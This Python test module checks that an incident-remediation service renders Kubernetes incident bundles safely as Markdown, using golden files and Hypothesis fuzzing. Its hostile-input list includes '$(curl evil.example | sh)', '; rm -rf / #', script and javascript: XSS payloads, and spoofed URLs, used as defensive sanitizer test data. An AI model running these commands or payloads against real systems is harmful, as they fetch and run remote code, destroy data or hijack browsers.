"""The bundle as Markdown: the golden rendering of one realistic incident, and hostile user data.

This module also holds what the other render tests share (they import it, as integration tests import
``test_remediation_flow``): the sample incident built with ``bundle.build``, the golden-file check
(``UPDATE_GOLDEN=1`` rewrites the files in ``golden/``) and the hypothesis strategies of hostile text.
"""

from __future__ import annotations

import os
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import markdown_it  # markdown-it-py, in the lock file (through rich)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service.escalation import bundle as bundles
from service.escalation import links
from service.escalation.render import markdown, text
from service.model import alerts, incidents, rules

GOLDEN = Path(__file__).parent / "golden"
BASE_URL = "https://remediator.example.com"
INCIDENT_ID = "01JPBM3Q8ZK4V7N2D5R9T6W1XC"
#: 2026-03-14 09:26:40 UTC
OPENED = 1773480400.0
NOW = OPENED + 250.0
GRAPH = (
    "http://prometheus.example.com:9090/graph?g0.expr=sum+by+%28service%29+%28rate%28http_requests_total"
    "%7Bstatus%3D~%225..%22%7D%5B5m%5D%29%29&g0.tab=1"
)
RUNBOOK = "https://runbooks.example.com/high-error-rate"
#: the link hosts of the sample: REMEDIATOR_LINK_HOSTS=prometheus.example.com,runbooks.example.com,x.example
LINKS = links.policy(["prometheus.example.com", "runbooks.example.com", "x.example"], BASE_URL)
TARGET = incidents.TargetRef(
    kind="Deployment", namespace="shop", name="coordinator", selector="app.kubernetes.io/name=coordinator"
)
CHECKLIST = rules.Checklist(
    immediate=["Service fully restored", "Stakeholders notified"],
    short_term=[
        "Find the change that raised the error rate (deploy, config, dependency).",
        "Runbooks updated",
    ],
    long_term=[
        "Add a test or alert that would have caught it earlier.",
        "Decide whether kube.rollout_undo should become automatic for this service.",
    ],
).items()
#: the sample alert's startsAt (2026-03-14 09:25:30 UTC): 70 s before the service opened the incident
STARTED = OPENED - 70.0
#: the rule's runbook page (the sample alert's own runbook_url annotation wins over it)
RULE_RUNBOOK = "https://docs.example.org/runbooks/high-error-rate"
#: an incident this one caused: opened while it was open, linked to it, paging through it
EFFECT = incidents.LinkRef(
    incident_id="01JPBM4A7TQ2XH3M6P9S1V4Y7B",
    rule="checkout-latency",
    target="Deployment/shop/checkout",
    state="escalated",
)
HOLDERS = ["L1 pagerduty:primary", "L1 slack"]


def at(offset: float) -> datetime:
    return datetime.fromtimestamp(OPENED + offset, UTC)


def sample_alert(**changes: Any) -> alerts.Alert:
    """One firing alert with the labels of a real one (and of the second alert Alertmanager grouped)."""
    values: dict[str, Any] = {
        "status": "firing",
        "labels": {
            "alertname": "HighErrorRate",
            "cluster": "prod-eu-1",
            "container": "coordinator",
            "endpoint": "http",
            "instance": "10.42.3.17:8080",
            "job": "shop/coordinator",
            "namespace": "shop",
            "pod": "coordinator-7d9f8b6c5d-x2kqp",
            "service": "coordinator",
            "severity": "critical",
            "team": "checkout",
        },
        "annotations": {
            "summary": "coordinator answers 38% of requests with 5xx",
            "description": "The 5xx ratio over 5m is 0.38 (threshold 0.05) for coordinator in shop.",
            "runbook_url": RUNBOOK,
        },
        "startsAt": "2026-03-14T09:25:30Z",
        "endsAt": "0001-01-01T00:00:00Z",
        "generatorURL": GRAPH,
        "fingerprint": "6f1c2e9a4b7d3c05",
    }
    values.update(changes)
    return alerts.Alert.model_validate(values)


FINDINGS = [
    incidents.Finding(
        id="pods",
        probe="kube.pods",
        status="failed",
        summary="0/3 ready, 3 crashlooping",
        facts={"desired": 3, "ready": 0, "crashlooping": 3, "oomkilled": 0, "pending": 0, "restarts": 41},
        evidence="coordinator-7d9f8b6c5d-x2kqp: CrashLoopBackOff (back-off 5m0s restarting failed container)",
        duration_ms=38.2,
    ),
    incidents.Finding(
        id="health",
        probe="http.get",
        status="failed",
        summary="GET http://coordinator.shop.svc:8080/healthz answered 503 in 12 ms",
        facts={"status": 503},
        duration_ms=12.4,
    ),
    incidents.Finding(
        id="db",
        probe="postgres.ping",
        status="ok",
        summary="accepted a connection in 4 ms",
        facts={"latency_ms": 4},
        duration_ms=4.1,
    ),
]
RESTART_REQUEST = {
    "method": "PATCH",
    "path": "/apis/apps/v1/namespaces/shop/deployments/coordinator",
    "body": {
        "spec": {
            "template": {
                "metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-03-14T09:26:48Z"}}
            }
        }
    },
    "content_type": "application/strategic-merge-patch+json",
}
ACTIONS = [
    incidents.ActionRecord(
        id="01JPBM3R2B7H0Q5S8V1X4Z6C9E",
        action="kube.rollout_restart",
        safety="safe",
        status="succeeded",
        reason="restarted deployment/coordinator (generation 12, 3 replicas)",
        requested_at=at(7),
        started_at=at(7.5),
        finished_at=at(8),
        request={"requests": [RESTART_REQUEST]},
        result={"generation": 12, "restarted_at": "2026-03-14T09:26:48Z", "replicas": 3},
    ),
    incidents.ActionRecord(
        id="01JPBM3R2C1K4N7Q0T3W6Y9B2D",
        action="kube.rollout_undo",
        safety="unsafe",
        status="awaiting_approval",
        reason="rolling back a release changes what runs; a human decides",
        requested_at=at(7),
    ),
]
SUGGESTED = [
    incidents.SuggestedCommand(command="kubectl -n shop get pods -l app.kubernetes.io/name=coordinator"),
    incidents.SuggestedCommand(command="kubectl -n shop logs deployment/coordinator --tail=100"),
    incidents.SuggestedCommand(
        command="kubectl -n shop rollout undo deployment/coordinator",
        hazard="rolls back to the previous ReplicaSet; check what changed first",
    ),
]
REASON = "kube.rollout_restart applied but verification failed: 0/3 ready, 3 crashlooping"


def sample_bundle(
    *,
    alert: alerts.Alert | None = None,
    findings: list[incidents.Finding] | None = None,
    actions: list[incidents.ActionRecord] | None = None,
    suggested: list[incidents.SuggestedCommand] | None = None,
    reason: str | None = REASON,
    checklist: list[rules.ChecklistItem] | None = None,
    state: incidents.IncidentState = "escalated",
    now: float = NOW,
    **extra: Any,
) -> incidents.Bundle:
    """The bundle of the sample incident, escalated 250 s after opening (320 s after its alert started);
    ``extra`` facts (caused_by, page_due_at …) go to ``bundle.build`` as they are."""
    facts: dict[str, Any] = {
        "started_at": STARTED,
        "effects": [EFFECT],
        "holders": HOLDERS,
        **extra,
    }
    return bundles.build(
        incident_id=INCIDENT_ID,
        rule_name="high-error-rate",
        runbook="High HTTP Error Rate",
        severity="critical",
        mttr_target_s=300.0,
        state=state,
        reason=reason,
        target=TARGET,
        opened_at=OPENED,
        now=now,
        alert_list=[alert or sample_alert()],
        suggested=SUGGESTED if suggested is None else suggested,
        base_url=BASE_URL,
        link_policy=LINKS,
        level=1,
        findings=FINDINGS if findings is None else findings,
        actions=ACTIONS if actions is None else actions,
        checklist=CHECKLIST if checklist is None else checklist,
        next_level=2 if state == "escalated" else None,
        next_at=now + 900.0 if state == "escalated" else None,
        **facts,
    )


def check_golden(name: str, actual: str) -> None:
    """Compare with ``golden/<name>``; ``UPDATE_GOLDEN=1`` writes it instead (then read the diff)."""
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(actual, encoding="utf-8")
        return
    assert path.exists(), f"{path} is missing: run the tests with UPDATE_GOLDEN=1 and review it"
    expected = path.read_text(encoding="utf-8")
    assert actual == expected, f"{name} changed: review the diff, then run with UPDATE_GOLDEN=1"


# -- hostile text ---------------------------------------------------------------------------------

NASTY = [
    "",
    "\n",
    "line one\nline two\r\n*State:* resolved",
    "<!channel>",
    "<!here|here>",
    "@channel @here #general",
    "<@U1>",
    "<@U123|boss>",
    "<http://x|y>",
    "<javascript:alert(1)|click>",
    "`",
    "``",
    "```",
    "````\n```sh\nrm -rf /\n```",
    "$(curl evil.example | sh)",
    "; rm -rf / #",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "javascript:alert(1)",
    "| a | b |",
    "\\|",
    "*bold* _it_ ~strike~",
    "&amp; &lt;!channel&gt; &#60;",
    "# heading",
    "> quote",
    "\u202eevil\u202c",
    "\u2067rtl\u2069",
    "שלום עולם",
    "مرحبا",
    "🚨🔥👩‍👩‍👧‍👦",
    "\x00\x1b[31mred\x1b[0m",
    "\u2028\u2029",
    "](javascript:alert(1))",
    "[x]: https://evil.example/ref",
    "https://evil.example/phish?a=1&b=2",
    "see www.evil.example now",
    "mail ops@evil.example",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "{{ 7*7 }} ${x} $x$",
    "!",
    "~~~",
]
#: 100 KB and more of one hostile piece
HUGE = st.sampled_from(["<!channel>", "`", "🚨", "a", "|", "<script>", "\n"]).map(
    lambda piece: piece * (100_000 // len(piece) + 1)
)
HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=12)), max_size=5).map("".join),
    HUGE,
)
#: http(s) links near and over what a Slack link may hold, once percent-encoded
LONG_URLS = [
    "https://x.example/" + "a" * 950,
    "https://x.example/?q=" + "<!channel>" * 120,
    "http://" + "b" * 2040,  # over what a link may be, within what an alert may carry
]
#: alert URLs that must not become links with the sample's allow-list (and two that must)
ALERT_URLS = [
    GRAPH,
    RUNBOOK,
    "javascript:alert(1)",
    " JavaScript:alert(1)",
    "data:text/html,x",
    "http://x/<b>|y",
    "https://evil.example/graph",
    "http://runbooks.example.com@evil.example/",
    "http://evil.example\\.runbooks.example.com/",
    "https://runbooks.example.com.evil.example/",
    "https:///evil.example/",
    "http://x.example:99999/",
    "http://x.example/\nsecond line",
    "",
    *LONG_URLS,
]
#: what Alertmanager's model accepts (intake refuses the rest): no control character in a label name,
#: no NUL in a value, bounded sizes
_NAME_CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def label_name(value: str) -> str:
    return _NAME_CONTROLS.sub("", value)[: alerts.MAX_NAME_CHARS] or "x"


def label_value(value: str) -> str:
    return value.replace("\x00", "\ufffd")[: alerts.MAX_LABEL_VALUE_CHARS]


HOSTILE_SETTINGS = settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@st.composite
def hostile_bundles(draw: st.DrawFn) -> incidents.Bundle:
    """The sample incident with hostile labels, annotations, summaries, reasons, commands and links."""
    labels = draw(st.dictionaries(HOSTILE.map(label_name), HOSTILE.map(label_value), max_size=4))
    annotations = draw(st.dictionaries(st.sampled_from(["summary", "description", "note"]), HOSTILE))
    annotations["runbook_url"] = draw(st.sampled_from(ALERT_URLS))
    alert = sample_alert(
        labels={**labels, "alertname": label_name(draw(HOSTILE))},
        annotations=annotations,
        generatorURL=draw(st.sampled_from(ALERT_URLS)),
    )
    findings = [
        f.model_copy(update={"summary": draw(HOSTILE), "evidence": draw(HOSTILE), "id": draw(HOSTILE)})
        for f in FINDINGS * draw(st.integers(0, 12))
    ]
    actions = [a.model_copy(update={"reason": draw(HOSTILE)}) for a in ACTIONS]
    suggested = [
        incidents.SuggestedCommand(command=draw(HOSTILE), hazard=draw(st.one_of(st.none(), HOSTILE)))
        for _ in range(draw(st.integers(0, 3)))
    ]
    document = sample_bundle(
        alert=alert, findings=findings, actions=actions, suggested=suggested, reason=draw(HOSTILE)
    ).model_dump(mode="json")
    document["alerts"] *= draw(st.integers(1, 6))  # many alerts in one group
    # what the bundle builder already filters out, put back: the renderers must hold on their own
    document["links"]["evil"] = "javascript:alert(1)"
    document["alerts"][0]["runbook_url"] = "javascript:alert(document.cookie)"
    document["runbook"] = draw(HOSTILE)
    return incidents.Bundle.model_validate(document)


def without_fences(markdown_text: str) -> str:
    """The Markdown outside fenced code blocks (whose content is literal by definition)."""
    return re.sub(r"^(`{3,})[^\n]*\n.*?^\1\s*$", "", markdown_text, flags=re.M | re.S)


# -- tests ----------------------------------------------------------------------------------------


def test_golden_bundle_markdown() -> None:
    check_golden("bundle.md", markdown.render(sample_bundle()))


def test_a_pipe_in_a_summary_does_not_split_the_table_cell() -> None:
    finding = FINDINGS[0].model_copy(update={"summary": "ready | not ready <b>"})
    rendered = markdown.render(sample_bundle(findings=[finding]))
    row = next(line for line in rendered.splitlines() if "ready \\| not ready" in line)
    assert row == "| FAILED | `pods` | `kube.pods` | ready \\| not ready &lt;b&gt; |"


def test_backticks_in_an_identifier_stay_inside_the_code_span() -> None:
    assert text.md_code("a`b") == "``a`b``"
    assert text.md_code("`x`") == "`` `x` ``"
    assert text.md_code("<b>") == "&lt;b&gt;"  # no literal < inside a code span: plain escaped text


def test_a_command_cannot_close_its_fence() -> None:
    rendered = text.md_fence(["echo ```", "echo ````"])
    assert rendered.startswith("`````sh\n") and rendered.endswith("\n`````")


def test_only_http_links_become_links() -> None:
    assert text.md_link("x", "javascript:alert(1)") == "x"
    assert (
        text.md_link("x", "https://a.example/p?q=(1) [2]") == "[x](https://a.example/p?q=%281%29%20%5B2%5D)"
    )


def test_a_bundle_without_title_runbook_or_target_still_has_a_heading() -> None:
    bare = sample_bundle().model_copy(
        update={
            "incident_id": "abc",
            "title": "",
            "runbook": "",
            "target": incidents.TargetRef(kind="", namespace="", name=""),
        }
    )
    rendered = markdown.render(bare)
    assert rendered.startswith("# Incident abc\n")


@HOSTILE_SETTINGS
@given(hostile_bundles())
def test_hostile_user_data_forms_no_html_and_no_script_link(document: incidents.Bundle) -> None:
    rendered = markdown.render(document)
    prose = without_fences(rendered)
    assert "<script" not in prose.lower()
    assert "<img" not in prose.lower()
    assert not re.search(r"(?<!\\)\]\(\s*javascript:", prose, re.I)  # an escaped \] is text
    assert "<!channel>" not in prose
    for line in prose.splitlines():
        if line.startswith("| FAILED") or line.startswith("| OK"):
            # a findings row keeps its four cells: every | in user data is escaped
            assert len(re.findall(r"(?<!\\)\|", line.replace("\\\\", ""))) == 5, line


@HOSTILE_SETTINGS
@given(hostile_bundles())
def test_hostile_user_data_renders_to_safe_html(document: incidents.Bundle) -> None:
    parser = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")  # raw HTML on: worst case
    html = parser.render(markdown.render(document))
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()
    assert not re.search(r"href=\"\s*(?!https?://)", html)


def facts_of(rendered: str) -> dict[str, str]:
    """The facts table of a rendered bundle: name → cell."""
    rows = re.findall(r"^\| \*\*(.+?)\*\* \| (.*) \|$", rendered, flags=re.M)
    return dict(rows)


def test_the_clock_counts_from_the_alert_start_and_detection_is_shown() -> None:
    facts = facts_of(markdown.render(sample_bundle()))
    assert facts["Started"] == "2026-03-14 09:25:30 UTC"
    assert facts["Detected"] == "2026-03-14 09:26:40 UTC"
    assert facts["MTTR (from the alert's start)"] == "open for 5 min 20 s — over the 5 min target by 20 s"
    unknown = facts_of(markdown.render(sample_bundle(started_at=None)))
    assert unknown["Started"] == "—"
    assert unknown["MTTR (from detection)"] == "open for 4 min 10 s — within the 5 min target \\(50 s left\\)"


def test_paging_facts_name_the_cause_the_effects_and_who_holds_the_page() -> None:
    cause = EFFECT.model_copy(
        update={"incident_id": "01JPBM0ROOT", "rule": "database-failure", "state": "open"}
    )
    facts = facts_of(
        markdown.render(sample_bundle(caused_by=cause, page_due_at=OPENED + 230, state="verifying"))
    )
    base = f"{BASE_URL}/ui/incidents"
    assert facts["Paging"] == "Paging at 09:30 UTC unless mitigated"
    assert facts["Caused by"] == (
        f"incident [01JPBM0ROOT]({base}/01JPBM0ROOT) (database-failure on Deployment/shop/checkout, open)"
        " — paged through it"
    )
    assert facts["Linked incidents"] == (
        f"[{EFFECT.incident_id}]({base}/{EFFECT.incident_id}) (checkout-latency on Deployment/shop/checkout, escalated)"
    )
    assert facts["Already paged"] == "L1 pagerduty:primary, L1 slack"


def test_the_rules_runbook_is_linked_unless_the_alert_has_its_own() -> None:
    bare_alert = sample_alert(annotations={"summary": "5xx"})
    own = facts_of(markdown.render(sample_bundle(alert=bare_alert, runbook_url=RULE_RUNBOOK)))
    assert own["Runbook"] == f"[High HTTP Error Rate]({RULE_RUNBOOK})"
    alerts_wins = sample_bundle(runbook_url=RULE_RUNBOOK)
    assert alerts_wins.links["runbook"] == RUNBOOK
    refused = sample_alert(annotations={"runbook_url": "https://evil.example/rb"})
    assert sample_bundle(alert=refused, runbook_url=RULE_RUNBOOK).links["runbook"] == RULE_RUNBOOK
    assert "runbook" not in sample_bundle(alert=bare_alert, runbook_url="javascript:alert(1)").links


def test_a_hostile_linked_incident_forms_no_link_but_ours() -> None:
    evil = incidents.LinkRef(
        incident_id="](javascript:alert(1))", rule="<script>", target="[x](https://evil.example)"
    )
    rendered = markdown.render(
        sample_bundle(caused_by=evil, effects=[evil], holders=["<img src=x>", "| a |"])
    )
    facts = facts_of(rendered)
    assert facts["Caused by"].startswith(
        f"incident [\\]\\(javascript:alert\\(1\\)\\)]({BASE_URL}/ui/incidents/%5D%28"
    )
    assert "<script>" not in rendered and "<img" not in rendered and "](https://evil" not in rendered
    assert facts["Already paged"] == "&lt;img src=x&gt;, \\| a \\|"
